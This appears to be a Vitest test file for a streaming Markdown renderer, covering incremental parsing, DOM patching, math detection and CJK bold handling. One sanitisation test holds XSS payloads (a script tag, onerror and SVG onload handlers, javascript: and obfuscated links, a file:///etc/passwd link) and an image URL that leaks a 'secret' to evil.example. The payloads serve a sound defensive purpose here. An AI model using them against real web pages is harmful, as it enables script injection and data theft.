// @vitest-environment jsdom
import { describe, expect, test } from 'vitest'
import { IncrementalMarkdown } from './incremental'
import { renderMarkdown } from './parser'
import { patchHtml } from './patch'
import { Remembered } from './remembered'

const TEXTS: Record<string, string> = {
  paragraphs: 'One line\nand more.\n\nAnother *with* `code` and **bold**.\n\nThird.',
  headings: '# One\n\nTwo\n---\nThree\n===\n\n#### Four\ntext',
  'setext after what looks like a list': 'para\n---\n\nmore\n- item\n\nend',
  lists: '- a\n- b\n  - c\n\n  para in b\n\n- d\n\n1. x\n2. y\n\n   z\n\nafter\n\n* other\n* list',
  fences: 'Text\n```python\nprint("a")\n\n# no heading\n```\nafter\n\n~~~\nopen to the end\n\n- no list',
  'indented code': 'Text\n\n    code\n\n    more\n\nend',
  quotes: '> a\nlazy\n>\n> - b\n> - c\n\n> d\n\ntext',
  tables: 'a | b\n--|:-:\n1 | 2\n3 | 4\n\nno table | here\n\n| x |\n|--:|\n| `y` |\ntext',
  math: 'Price $5 and $6, $x^2$ and \\(y\\).\n\n$$\na\n\nb\n$$\n\nText\n\\[\nc\n\\]\n$$d$$\n\nend $$ open',
  'math in paragraphs': 'Let $$x=1$$ be, and \\[ y\n= 2 \\] holds.\n\n$$\na\n$$ goes on\n\n\\[ b\n\\] too\n\nend',
  'check boxes': '- [x] one\n- [ ] two `code`\n\n1. [X] **three**\n   - [x]\n   - [x](y)\n\n[ ] no item',
  references: 'See [one] and [two][2].\n\nText\n\n[one]: https://example.org/1\n[2]: https://example.org/2 "T"\n\nend [one]',
  breaks: 'a  \nb\\\nc\n\n***\n\n---\nd',
  escapes: '\\*no\\* &amp; &lt;b&gt; <b>raw</b>\n\n<div>\n\n*in*\n\n</div>\n',
  chinese: '**（测试）**后文，**重点：**内容。\n\n标题\n===\n\n列表：\n- 一\n- 二\n\n**粗体**，`代码`。',
}

function blocksAsHtml(updates: string[]): string {
  const incremental = new IncrementalMarkdown()
  let html = ''
  for (const source of updates) {
    const blocks = incremental.update(source)
    html = blocks.map((block) => block.html).join('')
  }
  return html
}

describe.each(Object.entries(TEXTS))('%s', (_, text) => {
  const whole = renderMarkdown(text)

  test('are the same for every split in two', () => {
    for (let at = 0; at <= text.length; at++) {
      expect(blocksAsHtml([text.slice(0, at), text]), `split at ${at}`).toBe(whole)
    }
  })

  test('are the same character by character', () => {
    const incremental = new IncrementalMarkdown()
    for (let end = 0; end <= text.length; end++) {
      const part = text.slice(0, end)
      const blocks = incremental.update(part)
      expect(blocks.map((block) => block.html).join(''), `after ${end}`).toBe(renderMarkdown(part))
    }
  })

  test('are the same in an element that is patched character by character', () => {
    const patched = document.createElement('div')
    const written = document.createElement('div')
    for (let end = 0; end <= text.length; end++) {
      const html = renderMarkdown(text.slice(0, end))
      patchHtml(patched, html)
      written.innerHTML = html
      expect(patched.innerHTML, `after ${end}`).toBe(written.innerHTML)
    }
  })
})

test('a growing paragraph keeps its text node', () => {
  const root = document.createElement('div')
  patchHtml(root, '<p>One <em>two</em> thr</p>')
  const [paragraph, last] = [root.firstChild, root.firstChild?.lastChild]
  patchHtml(root, '<p>One <em>two</em> three <code>four</code></p>')
  expect(root.firstChild).toBe(paragraph)
  expect(paragraph?.childNodes[2]).toBe(last)
  expect(last?.nodeValue).toBe(' three ')
})

test('blocks that are over keep their HTML and their key while the text grows', () => {
  const incremental = new IncrementalMarkdown()
  const before = incremental.update('One.\n\nTwo.\n\nThr')
  const after = incremental.update('One.\n\nTwo.\n\nThree.')
  expect(before.map((block) => block.isOver)).toEqual([true, false, false])
  expect(after[0]).toBe(before[0])
  expect(after[1]).toEqual(before[1])
})

test.each([
  ['a script', '<script>alert(1)</script>'],
  ['an event handler', '<img src=x onerror=alert(1)>'],
  ['a link that runs', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) <javascript:alert(1)>'],
  ['a data link', '[x](data:text/html;base64,PHNjcmlwdD4=)'],
  ['a file link', '[x](file:///etc/passwd) [y](vbscript:x)'],
  ['a remote image', '![secret](https://evil.example/?q=secret) ![x][1]\n\n[1]: http://evil.example/x.png'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a style', '<style>*{display:none}</style><p style="position:fixed">x</p>'],
  ['an attribute in code', '```"onmouseover="alert(1)\nx\n```'],
  ['svg', '<svg onload=alert(1)><use href="data:image/svg+xml,x"/></svg> ![x](data:image/svg+xml;base64,PHN2Zz4=)'],
  ['an entity', '[x](&#106;avascript:alert(1))'],
])('%s stays inert', (_, source) => {
  const root = document.createElement('div')
  root.innerHTML = renderMarkdown(source)
  expect(root.querySelectorAll('script, iframe, style, svg, img, object, embed, form, input')).toHaveLength(0)
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^(on|style$|srcset$)/)
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/)
    }
  }
})

test('only the numbers of sources become citations', () => {
  const html = renderMarkdown('A [1], [2] and [3](https://example.org).', new Set([1, 3]))
  expect(html.match(/data-citation="\d"/g)).toEqual(['data-citation="1"'])
})

function shown(source: string): { formulas: string[]; displayed: number; words: string } {
  const root = document.createElement('div')
  root.innerHTML = renderMarkdown(source)
  const math = [...root.querySelectorAll('.math')]
  const formulas = math.map((each) => each.textContent ?? '')
  const displayed = root.querySelectorAll('[data-math=block]').length
  for (const each of math) each.remove()
  return { formulas, displayed, words: root.textContent ?? '' }
}

test.each([
  'between $5 and 6$, or $5-$10, US$5 and CA$6',
  '$20K to 30K$, $1,000 and 2,000$ a year, $100/month or $200/month',
  '价格从$5到10$之间，$10和$20',
  'echo $HOME/bin:$PATH, $HOME and $USER, ${A}${B}, $A$B, $HOME/$(pwd), "$a:$b"',
  'kill $$ and echo $$ now',
  '$AAPL,$TSLA and $x `y$`',
  '\\$5 and \\$6$',
  'see \\[1\\] and \\[\\]',
  '\\[x] text\n\nmore \\[y] and z',
])('no formula: %s', (source) => {
  expect(shown(source).formulas).toEqual([])
})

test.each([
  ['$x^2$, $5$, $2 \\times 3$, $5x$ and $a+b$', ['x^2', '5', '2 \\times 3', '5x', 'a+b']],
  ['the $n$th of $k$-means in $O(n log n)$', ['n', 'k', 'O(n log n)']],
  ["($x$), \\(y\\), $|z|$ and $f'$", ['x', 'y', '|z|', "f'"]],
  ['设$x$为$n$的值', ['x', 'n']],
  ['$5 each, where $p = 5$', ['p = 5']],
])('formulas within a line: %s', (source, formulas) => {
  expect(shown(source)).toMatchObject({ formulas, displayed: 0 })
})

test.each([
  ['Let $$x=1$$ be.', 'Let  be.', 'x=1'],
  ['The result \\[ x^2 + 1 \\] holds.', 'The result  holds.', 'x^2 + 1'],
  ['\\[ a \\] is text', ' is text', 'a'],
  ['so\n$$\na\n$$ goes\non', 'so\ngoes\non', 'a'],
  ['- so\n  $$\n  a\n  $$ goes\n  on', 'sogoes\non', 'a'],
  ['- item: $$a$$', 'item: ', 'a'],
])('a formula displayed within a paragraph: %s', (source, words, formula) => {
  const found = shown(source)
  expect(found).toMatchObject({ formulas: [formula], displayed: 1 })
  expect(found.words.trim()).toBe(words.trim())
})

test.each([
  ['前文**测试**后文', '测试'],
  ['**测试。**后文', '测试。'],
  ['前文**（测试）**后文', '（测试）'],
  ['含**「重点」**内容', '「重点」'],
  ['テスト**「太字」**です。', '「太字」'],
  ['한국어**(굵게)**입니다', '(굵게)'],
])('bold beside punctuation: %s', (source, bold) => {
  const root = document.createElement('div')
  root.innerHTML = renderMarkdown(source)
  expect([...root.querySelectorAll('strong')].map((each) => each.textContent)).toEqual([bold])
  expect(root.textContent?.trim()).toBe(source.replaceAll('**', ''))
})

test('items with a mark have check boxes with the words as their names', () => {
  const root = document.createElement('div')
  root.innerHTML = renderMarkdown('- [x] buy `milk`\n- [ ] **pay**\n- [x](https://example.org)\n- [x]\n\n[x] text')
  const boxes = [...root.querySelectorAll('[role=checkbox]')]
  expect(boxes.map((box) => [box.getAttribute('aria-label'), box.getAttribute('aria-checked')])).toEqual([
    ['buy milk', 'true'],
    ['pay', 'false'],
  ])
  expect(root.querySelectorAll('li')[0]?.textContent).toBe('buy milk')
})

test('a long text of open formulas is parsed in time that grows with it', () => {
  const open = '\\[ a\n'.repeat(20_000)
  expect(renderMarkdown(`${open}b \\] c`)).toContain('math')
})

test.each([
  ['&copy; &amp;amp; &AMP; &semi;', '© &amp;amp; &amp; ;'],
  ['&NotEqualTilde; &ngE; &#169; &#x1F600;', '≂̸ ≧̸ © 😀'],
  ['&notit; &copy &unknown; &;', '&amp;notit; &amp;copy &amp;unknown; &amp;;'],
])('character references are read as HTML reads them: %s', (source, html) => {
  expect(renderMarkdown(source)).toBe(`<p>${html}</p>\n`)
})

describe('remembered results', () => {
  test('are made once, and the oldest make room', () => {
    const made: string[] = []
    const remembered = new Remembered<string>(6)
    const get = (text: string): string => remembered.get(text, () => (made.push(text), text.toUpperCase()))
    expect(['ab', 'cd', 'ab', 'efg', 'cd', 'ab', 'longer than all', 'ab'].map(get)).toEqual([
      'AB',
      'CD',
      'AB',
      'EFG',
      'CD',
      'AB',
      'LONGER THAN ALL',
      'AB',
    ])
    expect(made).toEqual(['ab', 'cd', 'efg', 'ab', 'longer than all', 'ab'])
  })
})
